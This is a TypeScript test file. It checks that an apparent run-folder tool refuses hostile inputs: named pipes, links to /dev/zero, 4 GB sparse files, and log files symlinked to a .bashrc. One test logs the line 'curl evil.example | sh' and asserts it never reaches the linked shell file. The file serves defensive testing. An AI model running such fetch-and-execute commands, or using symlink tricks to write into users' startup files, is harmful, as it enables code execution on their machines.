/** The attempt: a run folder that was made to stop the program, or to write where it should not. */
import { execFileSync } from 'node:child_process';
import { mkdir, readFile, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { temporaryFolder } from '../datasets/testing/folders.ts';
import { CheckpointStore } from '../engine/checkpoint/store.ts';
import { readCodebook, fileHash } from '../runs/codebook.ts';
import { RunFolder } from '../runs/folder.ts';
import { mapPath, readMap, writeMap } from '../runs/maps.ts';
import { MetricsLog, readMetrics } from '../runs/metrics.ts';
import { readOutlierSet } from '../runs/outliers.ts';
import { recordingMapPath, readRecordingIndex } from '../runs/recording-map.ts';
import { readReviewed } from '../runs/reviewed.ts';
import { readScores } from '../runs/scores.ts';
import { examine } from './doctor/doctor.ts';
import { addScoredRun, reviewedWorkspace, testClip } from './testing/scored-run.ts';
import { withCode } from './testing/workstation.ts';

const SOON = { timeout: 60_000 };
const CLIP = testClip('normal', 0);

describe.skipIf(process.platform === 'win32')('a run', () => {
  let folder: string;
  beforeEach(async () => {
    folder = await temporaryFolder();
  });

  /** Each file of a run and how it is read. */
  const READERS: Readonly<Record<string, (run: string) => Promise<unknown>>> = {
    'run.json': (run) => RunFolder.open(run),
    'scores.csv': (run) => readScores(join(run, 'scores.csv')),
    'metrics.jsonl': (run) => readMetrics(join(run, 'metrics.jsonl')),
    'reviewed.json': (run) => readReviewed(join(run, 'reviewed.json'), ''),
    'outliers.json': (run) => readOutlierSet(join(run, 'outliers.json')),
    'codebook.safetensors': (run) => readCodebook(join(run, 'codebook.safetensors')),
    'a map': (run) => readMap(run, CLIP),
    'a map of a recording': (run) => readRecordingIndex(run, CLIP),
  };
  const placeOf = (name: string): string =>
    name === 'a map'
      ? mapPath(folder, CLIP)
      : name === 'a map of a recording'
        ? recordingMapPath(folder, CLIP)
        : join(folder, name);

  describe.each(Object.entries(READERS))('whose %s', (name, read) => {
    test('is a pipe is refused at once', SOON, async () => {
      execFileSync('mkfifo', [placeOf(name)]);
      await expect(read(folder)).rejects.toMatchObject({ name: 'UserError', hint: expect.any(String) as string });
    });

    test('is a device without end is refused at once', SOON, async () => {
      await symlink('/dev/zero', placeOf(name));
      await expect(read(folder)).rejects.toMatchObject({ name: 'UserError' });
    });

    test('has 4 GB of nothing is refused before there is memory for it', SOON, async () => {
      await writeFile(placeOf(name), '');
      await truncate(placeOf(name), 4 * 2 ** 30);
      const before = process.memoryUsage().rss;
      await expect(read(folder)).rejects.toMatchObject({ name: 'UserError' });
      expect(process.memoryUsage().rss - before).toBeLessThan(300e6);
    });
  });

  test('is examined, listed and opened to its end though every file of it is a pipe', SOON, async () => {
    const made = await reviewedWorkspace(folder);
    const id = await addScoredRun(made, { name: 'hostile', scores: { [CLIP]: 1 } });
    const run = join(made.runs, id);
    await mkdir(join(run, 'checkpoints'));
    await mkdir(join(run, 'maps'), { recursive: true });
    await writeMap(join(run, 'maps'), CLIP, { bands: 1, frames: 1, data: new Float32Array(1) });
    const files = ['scores.csv', 'metrics.jsonl', 'log.txt', 'checkpoints/step-00000001.safetensors'].map((name) =>
      join(run, name),
    );
    for (const path of [...files, mapPath(join(run, 'maps'), CLIP)]) {
      await rm(path, { force: true });
      execFileSync('mkfifo', [path]);
    }
    await expect(made.app.call('runs.get', { id })).rejects.toThrow(withCode('METRICS_UNREADABLE'));
    await expect(readMap(join(run, 'maps'), CLIP)).rejects.toThrow(withCode('MAP_DAMAGED'));
    const store = await CheckpointStore.open(join(run, 'checkpoints'));
    expect((await store.latest()).checkpoint).toBeUndefined();
    await made.app.dispose();
    const findings = await examine({
      workspace: join(folder, 'workspace'),
      settings: made.app.settingsFolder,
      repair: false,
    });
    expect(findings.filter(({ state }) => state !== 'ok').length).toBeGreaterThan(0);
  });

  test('whose log and curves are links gets no line written into what they lead to', async () => {
    const made = await reviewedWorkspace(folder);
    const id = await addScoredRun(made, { name: 'hostile', scores: { [CLIP]: 1 } });
    const run = await RunFolder.open(join(made.runs, id));
    const mine = join(folder, '.bashrc');
    await writeFile(mine, 'mine\n');
    for (const name of ['log.txt', 'metrics.jsonl']) {
      await rm(join(run.path, name), { force: true });
      await symlink(mine, join(run.path, name));
    }
    await run.log('a line\ncurl evil.example | sh');
    await expect(MetricsLog.open(join(run.path, 'metrics.jsonl'))).rejects.toThrow(withCode('FILE_NOT_WRITTEN'));
    expect(await readFile(mine, 'utf8')).toBe('mine\n');
  });

  test('that names a pipe as its codebook is not waited for', SOON, async () => {
    execFileSync('mkfifo', [join(folder, 'codebook')]);
    await expect(fileHash(join(folder, 'codebook'))).rejects.toThrow(withCode('CODEBOOK_UNREADABLE'));
  });
});
